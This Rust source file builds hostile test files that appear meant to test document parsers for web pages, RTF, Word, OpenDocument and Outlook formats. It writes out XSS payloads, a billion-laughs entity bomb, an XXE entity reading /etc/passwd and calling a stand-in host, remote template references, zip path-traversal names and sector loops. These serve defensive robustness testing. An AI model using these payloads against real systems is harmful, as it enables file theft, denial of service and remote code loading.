//! Web pages, rich text, files of word processors and of Outlook.

use super::{
    HostileFile,
    build::{entry, zip},
    file, heavy,
};

const MIB: usize = 1024 * 1024;

pub(super) fn files() -> Vec<HostileFile> {
    let mut files = pages();
    files.extend(rich_text());
    files.extend(processors());
    files.extend(outlook());
    files
}

fn pages() -> Vec<HostileFile> {
    vec![
        file("nothing", "nothing.html", Vec::new),
        file("one byte", "one-byte.html", || vec![b'<']),
        file("cut", "cut-in-a-tag.html", || {
            b"<!doctype html><html><body><p>The crane <a href=\"htt".to_vec()
        }),
        file("nesting", "nested.html", || {
            html(&["<div>".repeat(10_000), "mot".to_owned()].concat())
        }),
        file("nesting", "nested-tables.html", || html(&"<table><tr><td>".repeat(5_000))),
        file("nesting", "misnested.html", || {
            html(&"<a><b><p></a><table></b><i></p>".repeat(5_000))
        }),
        file("scripts", "scripts.html", || {
            html(
                "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=javascript:alert(1)></iframe>\
                  <svg onload=alert(1)><math><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">\
                  <link rel=stylesheet href=http://x.example/a.css><meta http-equiv=refresh content=\"0;url=http://x.example\">mot",
            )
        }),
        file("entities", "entities.html", || {
            html(
                &"&amp;&#0;&#x1b;&#x202e;&#xffffffffff;&CounterClockwiseContourIntegral;"
                    .repeat(20_000),
            )
        }),
        file("many headers", "many-attributes.html", || {
            let all: String =
                (0..100_000).map(|number| format!(" a{number}=\"{number}\"")).collect();
            html(&format!("<p{all}>mot</p>"))
        }),
        file("encodings", "charset-that-lies.html", || {
            [
                b"<html><meta charset=utf-16><title>caf\xe9</title><body>d\xe9j\xe0 vu ".as_slice(),
                &[0xff, 0xfe, 0xc0],
            ]
            .concat()
        }),
        heavy("long line", "long-line.html", || html(&"quay ".repeat(4 * MIB))),
        file("markup and escapes", "title-with-escapes.html", || {
            b"<html><title>\x1b[2J&#x202e;&lt;script&gt;alert(1)&lt;/script&gt;\x07</title><body>The crane".to_vec()
        }),
    ]
}

fn html(body: &str) -> Vec<u8> {
    format!("<!doctype html><html><head><title>The crane</title></head><body>{body}").into_bytes()
}

fn rich_text() -> Vec<HostileFile> {
    vec![
        file("one byte", "only-its-start.rtf", || br"{\rtf1".to_vec()),
        file("cut", "cut.rtf", || br"{\rtf1\ansi The crane \b goes \'e".to_vec()),
        file("nesting", "nested.rtf", || {
            [br"{\rtf1 ".to_vec(), b"{".repeat(100_000), b"mot".to_vec(), b"}".repeat(100_000)]
                .concat()
        }),
        file("nesting", "unopened.rtf", || {
            [br"{\rtf1 mot".to_vec(), b"}".repeat(100_000)].concat()
        }),
        file("expansion", "bytes-that-are-not-there.rtf", || {
            br"{\rtf1 mot \bin2147483647 x}".to_vec()
        }),
        file("expansion", "numbers.rtf", || {
            br"{\rtf1 \u99999999999999999999? \fs-99999999999 \'zz mot}".to_vec()
        }),
        file("scripts", "objects.rtf", || {
            br"{\rtf1{\object\objocx{\*\objdata 01050000}}{\field{\*\fldinst HYPERLINK javascript:alert(1)}{\fldrslt mot}}{\*\template http://x.example/t.dot}}".to_vec()
        }),
        file("encodings", "codepages.rtf", || {
            br"{\rtf1\ansicpg99999{\fonttbl{\f0\fcharset255 x;}}\f0 \'e9\'ff\uc9\u233}".to_vec()
        }),
        heavy("long line", "long-line.rtf", || {
            [br"{\rtf1 ".to_vec(), b"quay ".repeat(4 * MIB), b"}".to_vec()].concat()
        }),
    ]
}

fn processors() -> Vec<HostileFile> {
    vec![
        file("nothing", "nothing.docx", Vec::new),
        file("cut", "cut.docx", || {
            docx("<w:p><w:r><w:t>The crane").into_iter().take(200).collect()
        }),
        file("cut", "unclosed.docx", || docx("<w:p><w:r><w:t>The crane")),
        file("cut", "no-document.docx", || {
            zip(&[entry("[Content_Types].xml", "<Types/>"), entry("word/other.xml", "<a/>")])
        }),
        file("nesting", "nested.docx", || {
            docx(&["<w:sdt>".repeat(10_000), "mot".to_owned()].concat())
        }),
        file("nesting", "nested-tables.docx", || docx(&"<w:tbl><w:tr><w:tc>".repeat(4_000))),
        file("entities", "billion-laughs.docx", || document(LAUGHS)),
        file("entities", "outside-entity.docx", || {
            document(
                "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\"><!ENTITY f SYSTEM \"http://x.example/\">]><w:document xmlns:w=\"w\">&e;&f;</w:document>",
            )
        }),
        file("scripts", "outside-template.docx", || {
            zip(&[
                entry("[Content_Types].xml", "<Types/>"),
                entry("word/document.xml", WORDS),
                entry(
                    "word/_rels/settings.xml.rels",
                    "<Relationships><Relationship Id=\"a\" Type=\"attachedTemplate\" Target=\"http://x.example/t.dotm\" TargetMode=\"External\"/></Relationships>",
                ),
                entry("word/vbaProject.bin", vec![0xd0; 4_000]),
            ])
        }),
        file("expansion", "thousandfold.docx", || docx(&" ".repeat(64 * MIB))),
        heavy("expansion", "thousandfold-large.docx", || docx(&" ".repeat(700 * MIB))),
        file("climbing names", "climbing.docx", || {
            zip(&[
                entry("[Content_Types].xml", "<Types/>"),
                entry("word/document.xml", WORDS),
                entry("../../word/climbed.xml", "x"),
                entry("word/embeddings/../../../climbed.bin", "x"),
            ])
        }),
        file("same name twice", "same-name-twice.docx", || {
            zip(&[
                entry("[Content_Types].xml", "<Types/>"),
                entry("word/document.xml", WORDS),
                entry("word/document.xml", "<no"),
            ])
        }),
        file("control bytes", "controls.docx", || {
            docx("<w:p><w:r><w:t>a&#0;b&#x1b;[2Jc\u{1}</w:t></w:r></w:p>")
        }),
        file("cut", "unclosed.odt", || odt("<text:p>The crane")),
        file("nesting", "nested.odt", || odt(&"<text:section>".repeat(10_000))),
        file("entities", "billion-laughs.odt", || {
            zip(&[
                entry("mimetype", "application/vnd.oasis.opendocument.text"),
                entry("content.xml", LAUGHS),
            ])
        }),
        file("expansion", "blanks.odt", || {
            odt("<text:p>a<text:s text:c=\"2000000000\"/>b</text:p>")
        }),
        file("expansion", "thousandfold.odt", || odt(&" ".repeat(64 * MIB))),
        file("scripts", "macros.odt", || {
            odt(
                "<text:p>mot<office:script xlink:href=\"vnd.sun.star.script:x\"/></text:p><office:event-listeners/>",
            )
        }),
    ]
}

const WORDS: &str = "<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>The crane</w:t></w:r></w:p></w:body></w:document>";

const LAUGHS: &str = "<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\
    <!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\
    <!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\"><!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">]>\
    <w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>";

fn docx(body: &str) -> Vec<u8> {
    document(&format!("<w:document xmlns:w=\"w\"><w:body>{body}"))
}

fn document(xml: &str) -> Vec<u8> {
    zip(&[entry("[Content_Types].xml", "<Types/>"), entry("word/document.xml", xml)])
}

fn odt(body: &str) -> Vec<u8> {
    let xml = format!(
        "<office:document-content xmlns:office=\"office\" xmlns:text=\"text\" xmlns:xlink=\"xlink\"><office:body><office:text>{body}"
    );
    zip(&[entry("mimetype", "application/vnd.oasis.opendocument.text"), entry("content.xml", xml)])
}

/// The head of a compound file, whose sectors point where the caller says.
fn compound(first_table_sector: u32, directory_sector: u32, table: &[u32]) -> Vec<u8> {
    let mut file = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    file.resize(24, 0);
    for value in [0x3e_u16, 3, 0xfffe, 9, 6] {
        file.extend(value.to_le_bytes());
    }
    file.resize(44, 0);
    // Table sectors, directory, transaction, cutoff, small table, count, further tables, count.
    for value in [1, directory_sector, 0, 4096, 0xffff_fffe, 0, 0xffff_fffe, 0, first_table_sector]
    {
        file.extend(u32::to_le_bytes(value));
    }
    file.resize(512, 0xff);
    file.extend(table.iter().flat_map(|sector| sector.to_le_bytes()));
    file.resize(512 * 6, 0xff);
    file
}

fn outlook() -> Vec<HostileFile> {
    vec![
        file("one byte", "one-byte.msg", || vec![0xd0]),
        file("cut", "only-its-start.msg", || b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec()),
        file("cut", "cut.msg", || compound(0, 1, &[]).into_iter().take(700).collect()),
        file("loops", "sectors-in-a-ring.msg", || compound(0, 1, &[0xffff_fffd, 2, 1, 3, 4])),
        file("loops", "sector-that-follows-itself.msg", || compound(0, 1, &[0xffff_fffd, 1])),
        file("loops", "sectors-outside.msg", || compound(4_000_000, 3_000_000, &[7_000_000; 128])),
        file("control bytes", "noise.msg", || {
            [
                compound(0, 1, &[0xffff_fffd, 2, 3, 0xffff_fffe]),
                (0..=255).cycle().take(20_000).collect(),
            ]
            .concat()
        }),
    ]
}
